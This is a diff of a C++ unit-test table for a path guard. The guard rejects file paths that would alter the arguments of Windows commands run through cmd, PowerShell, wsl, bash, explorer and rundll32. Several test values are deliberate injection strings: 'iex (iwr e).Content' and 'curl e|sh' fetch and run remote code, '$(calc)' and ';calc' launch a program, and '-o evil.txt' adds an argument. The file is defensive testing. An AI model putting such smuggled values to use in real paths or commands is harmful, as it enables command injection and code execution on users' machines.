@@ -150,7 +150,7 @@ TEST(PathGuard, RefusesWhatWouldChangeTheArgumentsAndLetsTheRestThrough) {
         {cmd, "/c start /b \"\" \"%LOCAL_FILE_PATH%\"", "C:\\in\\run.hta", "/r", R::CommandName},
         {cmd, "/c start /d \"%LOCAL_FILE_PATH%\\..\" C:\\x.exe", "C:\\in\\a.txt", "/r", R::CmdSwitch},
         {cmd, "/c start \"\" \"\" \"%LOCAL_FILE_PATH%\"", "C:\\in\\a.txt", "/r", R::CommandName},
-        {cmd, "/c start /affinity 1 \"\" \"%LOCAL_FILE_PATH%\"", "C:\\in\\run.hta", "/r", R::CommandName},
+        {cmd, "/c start /machine amd64 \"\" \"%LOCAL_FILE_PATH%\"", "C:\\in\\run.hta", "/r", R::CommandName},
         // if runs its command, for hands its set to the command: each judged as what it starts.
         {cmd, "/c if exist \"%LOCAL_FILE_PATH%\" \"%LOCAL_FILE_PATH%\"", "C:\\in\\run.hta", "/r", R::CommandName},
         {cmd, "/c if exist \"%LOCAL_FILE_PATH%\"(\"%LOCAL_FILE_PATH%\")", "C:\\in\\run.hta", "/r", R::CommandName},
@@ -306,14 +306,18 @@ TEST(PathGuard, RefusesWhatWouldChangeTheArgumentsAndLetsTheRestThrough) {
         {ps, "-Command \"Remove-Item '%LOCAL_FILE_PATH%'\"", "C:\\in\\report]1.txt", "/r", R::ScriptWildcard},
         {ps, "-Command \"Get-FileHash -LiteralPath '%LOCAL_FILE_PATH%'\"", "C:\\in\\Photo [1].jpg", "/r", R::None},
         {ps, "-c \"& 'C:\\x.exe' '%REMOTE_FILE_PATH%' '%LOCAL_FILE_PATH%'\"", "C:\\in\\q -o y", "/pub/a b\\", R::BackslashBeforeQuote},
+        {ps, "-c \"& 'C:\\x.exe' '%LOCAL_FILE_PATH%\\..\\'\"", "C:\\in\\a b", "/r", R::BackslashBeforeQuote},
+        {ps, "-c \"& '%LOCAL_FILE_PATH%'\"", "C:\\in\\x.hta", "/r", R::CommandName},
         // What a redirection leaves of a command; what wsl -e, explorer, rundll32 and wt start.
         {cmd, redirected.c_str(), "C:\\in\\x;iex (iwr e).Content", "/r", R::ScriptUnquoted},
         {cmd, "/v:on /c C:\\Tools\\x.exe !TREVANEL_LOCAL_FILE_PATH!", "C:\\in\\a -o evil.txt", "/r", R::BlankUnquoted},
-        {"C:\\Windows\\System32\\wsl.exe", "-e bash -c \"md5sum /mnt/d/m%REMOTE_FILE_PATH%\"", "C:\\a", "/x;curl e|sh", R::InterpreterCode},
+        {cmd, "/c C:\\Tools\\x.exe <%TREVANEL_LOCAL_FILE_PATH%", "C:\\in\\a -o evil.txt", "/r", R::BlankUnquoted},
+        {"C:\\Windows\\System32\\wsl.exe", "-e tcsh -c \"md5sum /mnt/d/m%REMOTE_FILE_PATH%\"", "C:\\a", "/x;curl e|sh", R::InterpreterCode},
         {"C:\\Windows\\System32\\wsl.exe", "--exec /usr/bin/env sh \"%LOCAL_FILE_PATH%\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
         {"C:\\Git\\bin\\bash.exe", "-c 'md5sum \"%LOCAL_FILE_PATH%\" >> /d/sums.txt'", "C:\\in\\x$(calc)", "/r", R::InterpreterCode},
         {"C:\\Windows\\explorer.exe", "\"%LOCAL_FILE_PATH%\"", "C:\\in\\x.hta", "/r", R::CommandName},
         {"C:\\Windows\\explorer.exe", "/select,\"%LOCAL_FILE_PATH%\"", "C:\\in\\a b.txt", "/r", R::None},
+        {"C:\\Windows\\explorer.exe", "%REMOTE_FILE_PATH%", "C:\\a", "/pub/x.hta", R::CommandName},
         {"C:\\Windows\\System32\\rundll32.exe", "url.dll,FileProtocolHandler \"%LOCAL_FILE_PATH%\"", "C:\\in\\x.hta", "/r", R::InterpreterCode},
         {"C:\\Users\\u\\AppData\\Local\\Microsoft\\WindowsApps\\wt.exe", "notepad \"%LOCAL_FILE_PATH%\"", "C:\\in\\x;calc", "/r", R::InterpreterCode},
     };
